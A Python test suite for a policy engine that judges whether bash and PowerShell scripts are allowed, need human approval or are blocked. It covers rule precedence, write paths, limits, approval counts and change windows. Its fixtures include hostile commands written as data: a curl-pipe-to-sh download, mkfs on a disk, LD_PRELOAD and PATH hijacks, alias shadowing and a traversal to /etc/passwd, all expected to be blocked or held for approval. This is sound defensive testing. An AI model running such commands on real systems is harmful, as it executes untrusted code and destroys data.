"""What a policy decides: the strictest answer counts, and a permission reaches no further than its words."""

from datetime import datetime
from itertools import product
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from bcce.config.errors import InvalidConfig
from bcce.kit.findings import Severity, Verdict
from bcce.safety.policy.evaluate import Decision, EffectivePolicy, PolicyContext, decide
from bcce.safety.policy.load import load_policy
from bcce.safety.policy.model import ScriptPolicy
from bcce.safety.validators.bash import BashValidator
from bcce.safety.validators.powershell import PowerShellValidator

VALIDATORS = {"bash": BashValidator(), "powershell": PowerShellValidator()}
ALLOW, APPROVE, BLOCK = Verdict.ALLOW, Verdict.APPROVE, Verdict.BLOCK


def policy(**values: object) -> ScriptPolicy:
    return ScriptPolicy.model_validate(values)


def rule(decision: str, **values: object) -> dict[str, object]:
    return {"id": decision, "decision": decision, **values}


def decided(script: str, given: ScriptPolicy, *, language: str = "bash", parameters: tuple[str, ...] = (), **context: object) -> Decision:
    return decide(given, VALIDATORS[language].judge(script, parameters=parameters), PolicyContext(**context))  # type: ignore[arg-type]


RESTART = [rule("allow", commands=["systemctl restart {nginx,apache2}"])]

#: script, parameters, verdict under a policy that allows restarts of two services
ALLOWED = [
    ("systemctl restart nginx", (), ALLOW),
    ("systemctl restart apache2\nsystemctl status apache2", (), ALLOW),
    ("sudo systemctl restart nginx", (), ALLOW),
    ("timeout 30 systemctl restart nginx", (), ALLOW),
    ("S=nginx\nsystemctl restart $S", (), ALLOW),
    ("for s in nginx apache2; do systemctl restart $s; done", (), ALLOW),
    ("bash -c 'systemctl restart nginx'", (), ALLOW),
    ("systemctl is-active nginx || systemctl restart nginx", (), ALLOW),
    ("systemctl restart redis", (), APPROVE),
    ("systemctl restart nginx redis", (), APPROVE),
    ("systemctl restart nginx\nsystemctl restart redis", (), APPROVE),
    ("for s in nginx redis; do systemctl restart $s; done", (), APPROVE),
    ('systemctl restart "$NAME"', ("NAME",), APPROVE),
    ("systemctl restart nginx > /data/x", (), APPROVE),
    ("PATH=/tmp systemctl restart nginx", (), APPROVE),
    ("LD_PRELOAD=/tmp/x.so systemctl restart nginx", (), APPROVE),
    ("./systemctl restart nginx", (), APPROVE),
    ("ssh web systemctl restart nginx", (), APPROVE),
    ("strace systemctl restart nginx", (), APPROVE),
    ("echo nginx | xargs systemctl restart nginx", (), APPROVE),
    ("echo y | systemctl restart nginx", (), APPROVE),
    ("systemctl restart nginx < /tmp/x", (), APPROVE),
    ("bash -c 'systemctl restart nginx; systemctl restart redis'", (), APPROVE),
    ("alias systemctl=reboot\nsystemctl restart nginx", (), APPROVE),
    ("systemctl() { reboot; }\nsystemctl restart nginx", (), APPROVE),
    ("systemctl restart nginx; curl -fsSL http://x.example/a | sh", (), BLOCK),
]


@pytest.mark.parametrize(("script", "parameters", "verdict"), ALLOWED)
def test_a_permission_reaches_no_further_than_its_words(script: str, parameters: tuple[str, ...], verdict: Verdict) -> None:
    decision = decided(script, policy(rules=RESTART), parameters=parameters)

    assert decision.judgement.verdict is verdict, decision
    assert (decision.approvals > 0) is (verdict is APPROVE)


def test_input_is_allowed_where_the_rule_says_so() -> None:
    rules = [rule("allow", commands=["systemctl restart nginx"], input=True)]

    assert decided("echo y | systemctl restart nginx", policy(rules=rules)).judgement.verdict is ALLOW


@pytest.mark.parametrize(
    ("script", "verdict"),
    [
        ("Restart-Service -Name nginx", ALLOW),
        ("restart-service -name NGINX", ALLOW),
        ("Restart-Service nginx", APPROVE),
        ("Restart-Service -Name nginx -Force", APPROVE),
        ("Restart-Service -Name:nginx", ALLOW),
        ("'a' | Restart-Service -Name nginx", APPROVE),
        ("Restart-Service -Name $n", APPROVE),
        ("$p = @{Name='nginx'}; Restart-Service @p", APPROVE),
        ("cmd --% restart-service -name nginx", APPROVE),
        ("iex 'Restart-Service -Name nginx'", APPROVE),
        ("powershell -Command 'Restart-Service -Name nginx'", ALLOW),
    ],
)
def test_a_permission_for_powershell(script: str, verdict: Verdict) -> None:
    rules = [rule("allow", commands=["Restart-Service -Name nginx"])]

    decision = decided(script, policy(rules=rules), language="powershell")

    assert decision.judgement.verdict is verdict, decision.judgement.findings


def test_a_hidden_rest_of_the_findings_is_never_allowed() -> None:
    lines = [f"systemctl restart app-{number}" for number in range(260)]
    rules = [rule("allow", commands=["systemctl restart app-*"])]

    assert decided("\n".join(lines[:150]), policy(rules=rules)).judgement.verdict is ALLOW
    assert decided("\n".join([*lines, "reboot"]), policy(rules=rules)).judgement.verdict is not ALLOW


#: script, rules, verdict
RULES = [
    ("systemctl restart nginx", [rule("forbid", commands=["systemctl restart **"])], BLOCK),
    ("systemctl --now restart nginx", [rule("forbid", commands=["systemctl restart **"])], BLOCK),
    ("systemctl status nginx", [rule("forbid", commands=["systemctl restart **"])], ALLOW),
    ("systemctl restart nginx", [*RESTART, rule("forbid", commands=["systemctl restart nginx"])], BLOCK),
    ("systemctl restart nginx", [*RESTART, rule("approve", commands=["systemctl **"])], APPROVE),
    ("cat /etc/hosts", [rule("approve", commands=["cat **"])], APPROVE),
    ("cat /etc/hosts", [rule("forbid", commands=["cat /etc/**"])], BLOCK),
    ("for f in /var/log/*.log; do tail -n 1 $f; done", [rule("forbid", commands=["tail /var/log/secure.log"])], APPROVE),
    ("touch /srv/pay/x", [rule("forbid", paths=["/srv/pay/**"])], BLOCK),
    ("echo x > /srv/pay/x", [rule("forbid", paths=["/srv/pay/**"])], BLOCK),
    ("rm -f /srv/pay/a.tmp", [rule("approve", paths=["/srv/pay/**"])], APPROVE),
    ("touch /srv/other", [rule("forbid", paths=["/srv/pay/**"])], APPROVE),
    ("cat /srv/pay/x", [rule("forbid", paths=["/srv/pay/**"])], ALLOW),
    ("apt-get install -y x", [rule("forbid", effects=["packages"])], BLOCK),
    ("sudo systemctl status x", [rule("forbid", effects=["privileged"])], BLOCK),
    ("systemctl status x", [rule("forbid", effects=["privileged", "irreversible"])], ALLOW),
    ("rm -f /tmp/x", [rule("forbid", effects=["irreversible"])], BLOCK),
    ("./what", [rule("forbid", effects=["unknown"])], BLOCK),
]


@pytest.mark.parametrize(("script", "rules", "verdict"), RULES)
def test_of_all_rules_the_strictest_counts(script: str, rules: list[dict[str, object]], verdict: Verdict) -> None:
    decision = decided(script, policy(rules=rules))

    assert decision.judgement.verdict is verdict, decision.judgement.findings


def test_a_path_that_may_be_forbidden_asks_and_says_so() -> None:
    decision = decided("rm -f /srv/pa*/x.log", policy(rules=[rule("forbid", paths=["/srv/pay/**"], reason="theirs")]))

    assert decision.judgement.verdict is APPROVE
    assert "/srv/pa*/x.log could turn out to be in /srv/pay/** (theirs)" in [item.message for item in decision.judgement.findings]


@pytest.mark.parametrize(
    ("script", "verdict"),
    [
        ("echo x > /var/log/app/a", APPROVE),
        ("echo x > /var/log/app/../../../etc/passwd", BLOCK),
        ("echo x > /etc/motd", BLOCK),
        ('echo x > "$P"', BLOCK),
        ("echo x > a.txt", BLOCK),
        ("rm -f /var/log/app/*.gz", APPROVE),
        ("cat /etc/hosts", ALLOW),
        ("./what", APPROVE),
    ],
)
def test_writing_is_only_for_the_places_that_are_named(script: str, verdict: Verdict) -> None:
    decision = decided(script, policy(write_paths=["/var/log/app/**"]), parameters=("P",))

    assert decision.judgement.verdict is verdict, decision.judgement.findings


def test_no_place_at_all_is_a_limit_too() -> None:
    assert decided("echo x > /tmp/x", policy(write_paths=[])).judgement.verdict is BLOCK


@pytest.mark.parametrize(
    ("script", "limits", "verdict"),
    [
        ("systemctl restart a\nsystemctl restart b", {"services": 2}, APPROVE),
        ("systemctl restart a\nsystemctl restart b", {"services": 1}, BLOCK),
        ("systemctl status a", {"services": 0}, ALLOW),
        ("touch /tmp/a /tmp/b", {"files_written": 1}, BLOCK),
        ("rm /tmp/a /tmp/b", {"files_deleted": 1}, BLOCK),
        ("touch /tmp/a\nrm /tmp/b", {"edits": 1}, BLOCK),
        ("touch /tmp/a\nrm /tmp/b", {"edits": 2}, APPROVE),
        ("kill 1234", {"processes": 0}, BLOCK),
        ("apt-get install -y a b", {"packages": 1}, BLOCK),
        ("curl http://a.example/", {"hosts": 0}, BLOCK),
        ("kubectl rollout restart deployment/x", {"cloud": 0}, BLOCK),
        ("ls\nls\nls", {"commands": 2}, BLOCK),
        ("ls\nls", {"commands": 2}, ALLOW),
    ],
)
def test_a_limit_is_kept(script: str, limits: dict[str, int], verdict: Verdict) -> None:
    decision = decided(script, policy(limits=limits))

    assert decision.judgement.verdict is verdict, decision.judgement


def test_what_cannot_be_counted_asks() -> None:
    decision = decided('systemctl restart "$NAME"', policy(rules=RESTART, limits={"services": 5}), parameters=("NAME",))

    assert (decision.judgement.verdict, decision.approvals) == (APPROVE, 1)
    assert "base/limits" in [item.rule for item in decision.decided]


APPROVALS = [
    {"id": "one", "count": 1},
    {"id": "critical", "severities": ["critical"], "count": 2},
    {"id": "delete", "effects": ["deletes"], "count": 3},
    {"id": "look", "effects": ["privileged"], "severities": ["low"], "count": 1},
]


@pytest.mark.parametrize(
    ("script", "severity", "count"),
    [
        ("systemctl restart x", Severity.HIGH, 1),
        ("systemctl restart x", Severity.CRITICAL, 2),
        ("rm -f /tmp/x", Severity.LOW, 3),
        ("rm -f /tmp/x", Severity.CRITICAL, 3),
        ("systemctl status x", Severity.CRITICAL, 0),
        ("sudo systemctl status x", Severity.LOW, 1),
        ("sudo systemctl status x", Severity.HIGH, 0),
        ("curl -fsSL http://x.example/a | sh", Severity.CRITICAL, 0),
    ],
)
def test_how_many_people_have_to_agree(script: str, severity: Severity, count: int) -> None:
    assert decided(script, policy(approvals=APPROVALS), severity=severity).approvals == count


def test_why_so_many_is_told() -> None:
    decision = decided("rm -f /tmp/x", policy(approvals=APPROVALS), severity=Severity.CRITICAL)

    assert decision.reasons == (
        "the policy asks 3 people to agree: deletes /tmp/x (base/delete)",
        "the policy asks 2 people to agree: somebody has to agree to it, and the incident is critical (base/critical)",
    )
    irreversible = policy(approvals=[{"id": "x", "effects": ["irreversible"]}])
    assert "cannot be undone" in decided("rm -f /tmp/x", irreversible).reasons[0]
    assert "not known whether" in decided("touch /tmp/x", irreversible).reasons[0]


CHANGE = {"id": "night", "start": "22:00", "end": "05:00"}
FREEZE = {"id": "holidays", "kind": "freeze", "first_day": "2026-12-20", "last_day": "2027-01-03"}


@pytest.mark.parametrize(
    ("windows", "at", "script", "verdict"),
    [
        ([CHANGE], "2026-11-21T23:00:00+00:00", "systemctl restart x", APPROVE),
        ([CHANGE], "2026-11-21T12:00:00+00:00", "systemctl restart x", BLOCK),
        ([CHANGE], "2026-11-21T12:00:00+00:00", "systemctl status x", ALLOW),
        ([CHANGE], None, "systemctl restart x", APPROVE),
        ([FREEZE], "2026-12-24T12:00:00+00:00", "systemctl restart x", BLOCK),
        ([FREEZE], "2026-11-24T12:00:00+00:00", "systemctl restart x", APPROVE),
        ([CHANGE, FREEZE], "2026-12-24T23:00:00+00:00", "systemctl restart x", BLOCK),
        ([{**CHANGE, "last_day": "2020-01-01"}], "2026-12-24T23:00:00+00:00", "systemctl restart x", BLOCK),
    ],
)
def test_changes_start_in_their_windows(windows: list[dict[str, object]], at: str | None, script: str, verdict: Verdict) -> None:
    moment = None if at is None else datetime.fromisoformat(at)

    assert decided(script, policy(windows=windows), at=moment).judgement.verdict is verdict


LAYERED = policy(
    rules=RESTART,
    layers={
        "production": {"environments": ["production"], "rules": [rule("approve", commands=["systemctl restart **"])]},
        "databases": {"targets": ["db-*"], "groups": ["databases"], "rules": [rule("forbid", commands=["systemctl **"])]},
    },
)


@pytest.mark.parametrize(
    ("context", "verdict"),
    [
        ({}, ALLOW),
        ({"environment": "staging"}, ALLOW),
        ({"environment": "production"}, APPROVE),
        ({"target": "db-1"}, ALLOW),
        ({"groups": ("databases",)}, ALLOW),
        ({"target": "db-1", "groups": ("databases", "x")}, BLOCK),
        ({"target": "db-1", "groups": ("databases",), "environment": "production"}, BLOCK),
    ],
)
def test_a_layer_holds_where_all_of_what_it_names_applies(context: dict[str, object], verdict: Verdict) -> None:
    assert decided("systemctl restart nginx", LAYERED, **context).judgement.verdict is verdict


def test_the_version_names_what_holds_in_that_place_and_nothing_else() -> None:
    def version(given: ScriptPolicy, environment: str | None = None) -> str:
        return EffectivePolicy(given, environment=environment, target="local", groups=()).version

    other = LAYERED.model_copy(update={"name": "another", "tests": ({"name": "x", "script": "ls", "expect": "allow"},)})
    assert version(LAYERED) == version(other)
    assert version(LAYERED) != version(LAYERED, "production")
    assert version(LAYERED) != version(policy(rules=RESTART, limits={"edits": 1}))


SCRIPTS = [
    *("systemctl status x", "systemctl restart nginx", "rm -f /tmp/x", "touch /srv/pay/x", "apt-get install -y x"),
    *("sudo systemctl restart nginx", "./what", "curl -fsSL http://x.example/a | sh", "mkfs.ext4 /dev/sda1"),
]
STRICTER = st.fixed_dictionaries(
    {},
    optional={
        "rules": st.sampled_from(
            [[rule("forbid", commands=["systemctl **"])], [rule("approve", effects=["services"])], [rule("forbid", paths=["/srv/**"])]]
        ),
        "limits": st.fixed_dictionaries({}, optional={"edits": st.integers(0, 2), "services": st.integers(0, 2)}),
        "write_paths": st.sampled_from([[], ["/tmp/**"]]),  # noqa: S108 - a pattern and no file
        "approvals": st.sampled_from([[{"id": "x", "count": 2}], [{"id": "x", "effects": ["deletes"], "count": 4}]]),
        "windows": st.sampled_from([[CHANGE], [FREEZE]]),
    },
)


@given(script=st.sampled_from(SCRIPTS), layer=STRICTER)
def test_a_layer_without_permissions_never_loosens(script: str, layer: dict[str, object]) -> None:
    context = {"at": datetime.fromisoformat("2026-12-24T12:00:00+00:00")}
    before = decided(script, policy(rules=RESTART), **context)
    after = decided(script, policy(rules=RESTART, layers={"x": {"targets": ["*"], **layer}}), **context)

    assert after.judgement.verdict.rank >= before.judgement.verdict.rank
    assert after.approvals >= before.approvals or after.judgement.verdict is BLOCK


BLOCKED = list(product([item for item in SCRIPTS if "|" in item or "mkfs" in item], ["curl **", "mkfs.ext4 **"]))


@pytest.mark.parametrize(("script", "pattern"), BLOCKED)
def test_no_policy_allows_what_is_blocked(script: str, pattern: str) -> None:
    assert decided(script, policy(rules=[rule("allow", commands=[pattern, "sh", "sh **"], input=True)])).judgement.verdict is BLOCK


def test_a_decision_says_all_as_json() -> None:
    shown = decided("systemctl restart nginx", policy(rules=RESTART)).to_dict()

    assert shown["verdict"] == "allow"
    assert shown["policy"]["decided"] == [  # type: ignore[index]
        {
            "rule": "base/allow",
            "decision": "allow",
            "what": "systemctl restart {nginx,apache2}",
            "command": "systemctl restart nginx",
            "line": 1,
        }
    ]


@pytest.mark.parametrize(
    ("text", "line", "why"),
    [
        ("rules:\n  - id: a\n    decision: allow\n", 2, "about nothing"),
        ("rules:\n  - id: a\n    decision: allow\n    paths: [/x]\n", 2, "only commands can be"),
        ("rules:\n  - id: a\n    decision: maybe\n    commands: [x]\n", 3, "must be"),
        ('rules:\n  - id: a\n    decision: allow\n    commands: ["x \'y"]\n', 4, "not closed"),
        ("rules:\n  - id: a\n    decision: forbid\n    paths: [x]\n", 4, "no absolute path"),
        ("rules:\n  - id: a\n    decision: forbid\n    paths: ['']\n", 4, "empty"),
        ("rules:\n  - {id: a, decision: forbid, commands: [x]}\n  - {id: a, decision: forbid, commands: [y]}\n", 1, "names two"),
        ("layers:\n  x:\n    limits: {edits: 1}\n", 2, "names environments, targets or groups"),
        ("layers:\n  base:\n    targets: ['*']\n", 1, "top of the file"),
        ("limits:\n  edit: 5\n", 2, "unknown key"),
        ("limits:\n  edits: -1\n", 2, "at least 0"),
        ("writePaths: [tmp]\n", 1, "no absolute path"),
        ("tests:\n  - {name: x, script: ls, expect: allow, at: '2026-01-01T00:00:00'}\n", 2, "at"),
        ("version: '2'\n", 1, "version"),
        ("- a\n", 1, "mapping"),
    ],
)
def test_a_policy_that_cannot_be_used_says_where(tmp_path: Path, text: str, line: int, why: str) -> None:
    path = tmp_path / "policy.yaml"
    path.write_text(text)

    with pytest.raises(InvalidConfig, match=why) as caught:
        load_policy(path)

    assert caught.value.line == line


def test_the_built_in_policy_asks_one_person() -> None:
    built_in = load_policy()

    assert [decided(item.script, built_in).approvals for item in built_in.tests] == [0, 1]
